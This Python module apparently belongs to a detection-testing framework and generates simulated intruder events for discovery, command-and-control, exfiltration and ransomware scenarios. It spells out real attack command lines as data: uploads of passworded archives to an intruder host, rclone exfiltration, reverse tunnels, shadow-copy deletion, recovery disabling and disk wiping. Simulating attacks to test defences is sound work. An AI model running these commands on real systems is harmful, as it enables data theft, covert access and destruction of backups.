"""What intruders are after: to know the network, to keep in touch, to take data out, to destroy it."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tocsin.simulate.actions import NameLookup
from tocsin.simulate.scenarios.cast import Act, Cast, Scenario, system_program
from tocsin.simulate.software import CMD


def _discovery(cast: Cast) -> Iterator[Act]:
    commands = {
        ("list-users", "T1087.002"): (
            "net.exe user /domain",
            "net1.exe user /domain",
            "dsquery.exe user -limit 0",
        ),
        ("list-admins", "T1069.002"): (
            'net.exe group "Domain Admins" /domain',
            'net.exe group "Enterprise Admins" /dom',
            'net1.exe group "domain admins" /domain',
        ),
        ("list-trusts", "T1482"): ("nltest.exe /domain_trusts", "nltest.exe /domain_trusts /all_trusts"),
        ("list-controllers", "T1018"): ("nltest.exe /dclist:corp.example", "net.exe view /all /domain"),
        ("look-at-rights", "T1033"): ("whoami.exe /all", "whoami.exe /priv", "whoami.exe /groups"),
        ("look-for-scanner", "T1518.001"): (
            "wmic.exe /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName",
            "wmic.exe /node:localhost /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get /value",
        ),
        ("search-directory", "T1087.002"): (
            f'{cast.dropped("exe")} -f "(objectcategory=person)" > {cast.dropped("txt")}',
            f"C:\\Users\\Public\\AdFind.exe -f (objectcategory=computer) -csv > {cast.dropped('csv')}",
        ),
    }
    parent = cast.one_of(CMD, cast.implant)
    for (step, technique), lines in cast.rng.sample(list(commands.items()), 6):
        line = cast.one_of(*lines)
        image = line.split(maxsplit=1)[0] if line.startswith("C:") else ""
        yield Act(step, technique, cast.run(line, image=image, parent=parent))
    out = cast.dropped("txt")
    questions = " & ".join(
        f"{ask} >> {out}" for ask in ("systeminfo", "ipconfig /all", "netstat -ano", "tasklist")
    )
    yield Act("collect-facts", "T1082", cast.run(f"cmd.exe /c {questions}", parent=parent))


def _control(cast: Cast) -> Iterator[Act]:
    image = cast.implant
    yield Act("call-home", "T1071.001", cast.run(image, image=image, parent="C:\\Windows\\explorer.exe"))
    yield Act("call-home", "T1071.001", cast.call_home(image))
    zone = f"{cast.word()}.{cast.word()}.example"
    for _ in range(cast.rng.randint(4, 12)):
        name = f"{cast.noise(50).lower()}.{zone}"
        yield Act(
            "talk-by-names", "T1071.004", NameLookup(cast.victim, cast.desk, image, name, cast.intruder)
        )
    kind = cast.one_of("-querytype=TXT", "-type=TXT", "-q=TXT")
    ask = f"nslookup.exe {kind} {cast.noise(30).lower()}.{zone} {cast.intruder}"
    yield Act("ask-for-orders", "T1071.004", cast.run(ask, parent=image))
    tunnel = cast.one_of(
        f"ssh.exe -N -R {cast.rng.randrange(2_000, 9_000)}:127.0.0.1:3389 tunnel@{cast.intruder}",
        f"C:\\Users\\Public\\plink.exe -batch -R 3390:127.0.0.1:3389 -pw {cast.password()} x@{cast.intruder}",
        "netsh.exe interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0"
        f" connectport=443 connectaddress={cast.intruder}",
    )
    program = tunnel.split(maxsplit=1)[0]
    path = program if program.startswith("C:") else system_program(program)
    yield Act("open-tunnel", "T1572", cast.run(tunnel, image=path, parent=image))


def _exfiltration(cast: Cast) -> Iterator[Act]:
    archive = cast.dropped(cast.one_of("7z", "rar", "zip"))
    folder = cast.one_of(f"\\\\{cast.server.name}\\Shared\\Payroll", "C:\\Users\\Public\\out", "D:\\Export")
    password = cast.password()
    pack = cast.one_of(
        f"7z.exe a -p{password} -mhe=on {archive} {folder}",
        f"rar.exe a -hp{password} -m5 -r {archive} {folder}",
        f"7z.exe a -t7z -mx9 -p{password} -v200m {archive} {folder}",
    )
    tool = f"C:\\Users\\Public\\{pack.split(maxsplit=1)[0]}"
    yield Act("pack-with-password", "T1560.001", cast.run(pack, image=tool))
    yield Act("pack-with-password", "T1560.001", cast.file(archive, tool))
    send = cast.one_of(
        f"rclone.exe copy {archive} remote:{cast.word()} --config {cast.dropped('conf')} --transfers 8",
        f"rclone.exe sync {folder} {cast.word()}:backup --no-check-certificate --max-age 3y",
    )
    rclone = f"C:\\Users\\Public\\{cast.one_of('rclone.exe', 'svchost32.exe')}"
    yield Act("send-to-cloud", "T1567.002", cast.run(send, image=rclone))
    yield Act("send-to-cloud", "T1567.002", cast.call_home(rclone))
    upload = cast.one_of(
        f"curl.exe -F file=@{archive} {cast.url('php')}",
        f"curl.exe -T {archive} ftp://{cast.intruder}/ --user x:{password}",
        f"powershell.exe -c \"(New-Object Net.WebClient).UploadFile('{cast.url('php')}','{archive}')\"",
    )
    yield Act("upload", "T1048.003", cast.run(upload))
    yield Act("remove-traces", "T1070.004", cast.run(f"cmd.exe /c del /f /q {archive} & del /f /q {tool}"))


def _ransom(cast: Cast) -> Iterator[Act]:
    image = cast.implant
    run = partial(cast.run, parent=image, account=cast.admin, machine=cast.server)
    file = partial(cast.file, image=image, account=cast.admin, machine=cast.server)
    deletions = (
        "vssadmin.exe delete shadows /all /quiet",
        "wmic.exe shadowcopy delete",
        "vssadmin.exe resize shadowstorage /for=C: /on=C: /maxsize=401MB",
        'powershell.exe -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"',
        "wbadmin.exe delete catalog -quiet",
    )
    for line in cast.rng.sample(deletions, 2):
        yield Act("delete-backups", "T1490", run(cast.cased(line), image=system_program(line)))
    boot = cast.one_of(
        "bcdedit.exe /set {default} recoveryenabled no",
        "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
    )
    yield Act("disable-recovery", "T1490", run(boot))
    for service in cast.rng.sample(("MSSQLSERVER", "VeeamBackupSvc", "SQLWriter", "MSExchangeIS"), 2):
        stop = cast.one_of(
            f"net.exe stop {service} /y", f"sc.exe stop {service}", f"taskkill.exe /f /im {service}.exe"
        )
        yield Act("stop-services", "T1489", run(stop))
    ending = cast.noise(6).lower()
    for _ in range(cast.rng.randint(8, 30)):
        name = f"{cast.word()}.{cast.one_of('docx', 'xlsx', 'pdf')}.{ending}"
        yield Act("encrypt-files", "T1486", file(f"D:\\Shared\\{cast.word().title()}\\{name}"))
    note = cast.one_of("HOW_TO_DECRYPT.txt", "README_RECOVER_FILES.txt", "RESTORE_MY_FILES.hta")
    yield Act("encrypt-files", "T1486", file(f"D:\\Shared\\{note}"))
    yield Act("wipe-free-space", "T1485", run("cipher.exe /w:D:\\"))


SCENARIOS = (
    Scenario("discovery-burst", "Ask the domain who and what is there, within a minute", _discovery, haste=2),
    Scenario(
        "command-and-control", "Keep in touch with a server outside, also by names and tunnels", _control
    ),
    Scenario("exfiltration", "Pack documents with a password and send them away", _exfiltration),
    Scenario("ransomware", "Delete backups, stop services, encrypt files", _ransom),
)
